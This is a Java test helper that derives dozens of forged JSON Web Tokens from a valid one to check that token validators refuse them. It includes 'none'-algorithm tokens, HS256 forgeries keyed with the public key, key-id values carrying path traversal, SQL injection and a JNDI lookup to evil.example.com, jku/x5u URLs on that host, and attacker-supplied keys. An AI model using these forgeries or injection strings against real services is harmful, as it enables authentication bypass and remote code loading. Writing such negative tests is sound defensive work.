// SPDX-License-Identifier: Apache-2.0
package dev.qrtc.testing;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.jwk.JsonWebKey.OutputControlLevel;
import org.jose4j.jwk.PublicJsonWebKey;

/**
 * Bad tokens, each made of a good one and wrong in one thing only (RFC 8725), for every reader of tokens alike. Where it can
 * be, the signature is right: by it alone nothing is refused.
 */
public final class Attacks {
    private static final int DEEPER_THAN_ANYBODY_READS = 100;

    private final TokenDraft draft;
    private final PublicJsonWebKey key;
    private final String header;
    private final String payload;
    private final String signature;
    private final Map<String, String> tokens = new LinkedHashMap<>();

    private Attacks(TokenDraft draft, PublicJsonWebKey key) {
        this.draft = draft;
        this.key = key;
        var parts = draft.sign().split("\\.", -1);
        this.header = decode(parts[0]);
        this.payload = decode(parts[1]);
        this.signature = parts[2];
    }

    /**
     * Bad tokens by what is wrong with them.
     *
     * @param draft a good token, which {@code key} signs
     */
    public static Map<String, String> on(TokenDraft draft, PublicJsonWebKey key) {
        var attacks = new Attacks(draft, key);
        attacks.algorithms();
        attacks.keyIds();
        attacks.keysOfTheSender();
        attacks.extensions();
        attacks.json();
        attacks.spellings();
        attacks.signatures();
        return attacks.tokens;
    }

    private void algorithms() {
        for (var none : List.of("none", "None", "NONE", "nOnE", "")) {
            tokens.put("algorithm '" + none + "'", draft.unsecured(none));
            tokens.put("algorithm '" + none + "' and the old signature", draft.unsecured(none) + signature);
        }
        var publicKey = Objects.requireNonNull(key.getPublicKey()).getEncoded();
        tokens.put("HS256 with the public key's DER", hmac(publicKey));
        tokens.put("HS256 with the public key's PEM", hmac(pem(publicKey).getBytes(StandardCharsets.US_ASCII)));
        var jwk = key.toJson(OutputControlLevel.PUBLIC_ONLY);
        tokens.put("HS256 with the public key's JWK", hmac(jwk.getBytes(StandardCharsets.US_ASCII)));
        for (var other : List.<Object>of("HS256", "RS256", "ES384", "PS256", "EdDSA", "es256", 256)) {
            if (!other.equals(key.getAlgorithm())) {
                tokens.put("algorithm " + other, draft.header("alg", other).signedAsItIsBy(key));
            }
        }
        tokens.put("no algorithm", draft.header("alg", null).signedAsItIsBy(key));
    }

    private void keyIds() {
        for (var id : List.<Object>of(
                "../../../dev/null",
                "/proc/self/environ",
                "https://evil.example.com/jwks.json",
                "' OR 1=1 --",
                "${jndi:ldap://evil.example.com/a}",
                key.getKeyId() + "\u0000",
                key.getKeyId() + " ",
                "",
                "a".repeat(1_000),
                7,
                List.of(key.getKeyId()))) {
            tokens.put("key id " + id, draft.header("kid", id).signedAsItIsBy(key));
        }
    }

    private void keysOfTheSender() {
        var own = TestKeys.ec("evil", "access");
        var params = own.toParams(OutputControlLevel.PUBLIC_ONLY);
        header("jwk", params);
        header("jku", "https://evil.example.com/jwks.json");
        header("x5u", "https://evil.example.com/c.pem");
        header("x5c", List.of("MIIB"));
        header("x5t", "AAAA");
        header("x5t#S256", "AAAA");
        tokens.put(
                "a key of its own, under the good one's id",
                draft.resignedWith(own).header("kid", key.getKeyId()).sign());
        tokens.put(
                "a key of its own, which it brings along",
                draft.resignedWith(own)
                        .header("kid", key.getKeyId())
                        .header("jwk", params)
                        .sign());
    }

    private void extensions() {
        header("crit", List.of("exp2"));
        header("crit", List.of());
        header("b64", false);
        header("zip", "DEF");
        header("enc", "A256GCM");
    }

    private void json() {
        var deep = "[".repeat(DEEPER_THAN_ANYBODY_READS) + "]".repeat(DEEPER_THAN_ANYBODY_READS);
        for (var addition : List.of(
                "\"x\":1,\"x\":1",
                "\"x\":1,\"\\u0078\":1",
                "\"x\":" + deep,
                "\"x\":" + "9".repeat(500),
                "\"" + "x".repeat(500) + "\":1",
                "\"x\":NaN",
                "\"x\":1/**/")) {
            tokens.put("a payload with " + addition, sign(header, with(addition, payload)));
            tokens.put("a header with " + addition, sign(with(addition, header), payload));
        }
        for (var claim : List.of("iss", "sub", "aud", "exp", "jti")) {
            var twice = "\"" + claim + "\":\"another\"";
            tokens.put(claim + " twice", sign(header, with(twice, payload)));
            tokens.put(claim + " twice, first another", sign(header, "{" + twice + "," + payload.substring(1)));
        }
        for (var other : List.of("", "null", "[]", "{}{}", payload + "{}", "\ufeff" + payload)) {
            tokens.put("the payload " + other, sign(header, other));
        }
    }

    private void spellings() {
        var good = draft.sign();
        tokens.put("padding", good + "=");
        tokens.put("a space behind it", good + " ");
        tokens.put("a line inside it", good.substring(0, 20) + "\n" + good.substring(20));
        tokens.put("a fourth part", good + ".");
        tokens.put("two parts", good.substring(0, good.lastIndexOf('.')));
        tokens.put("the JSON serialization", "{\"payload\":\"" + good.split("\\.", -1)[1] + "\"}");
        tokens.put(
                "a length that nobody reads",
                draft.claim("x", "x".repeat(9_000)).sign());
    }

    private void signatures() {
        var good = draft.sign();
        var input = good.substring(0, good.lastIndexOf('.'));
        var bytes = Base64.getUrlDecoder().decode(signature);
        for (int bit = 0; bit < 8; bit++) {
            var flipped = bytes.clone();
            flipped[bit * (bytes.length - 1) / 7] ^= (byte) (1 << bit);
            tokens.put("bit " + bit + " flipped", input + "." + RawToken.encode(flipped));
        }
        tokens.put("no signature", input + ".");
        tokens.put("a signature of zeros", input + "." + RawToken.encode(new byte[bytes.length]));
        tokens.put("a signature that is cut off", good.substring(0, good.length() - 4));
        tokens.put("another payload", sign(header, with("\"x\":1", payload)).replaceAll("[^.]*$", signature));
    }

    private void header(String name, Object value) {
        tokens.put("header " + name + " " + value, draft.header(name, value).signedAsItIsBy(key));
    }

    private String hmac(byte[] secret) {
        return draft.header("alg", "HS256")
                .forgedWith(new SecretKeySpec(secret, "HmacSHA256"))
                .sign();
    }

    private String sign(String otherHeader, String otherPayload) {
        return RawToken.sign(key, otherHeader, otherPayload);
    }

    private static String pem(byte[] der) {
        var lines = Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der);
        return "-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----\n";
    }

    private static String with(String addition, String object) {
        return object.substring(0, object.length() - 1) + "," + addition + "}";
    }

    private static String decode(String part) {
        return new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8);
    }
}
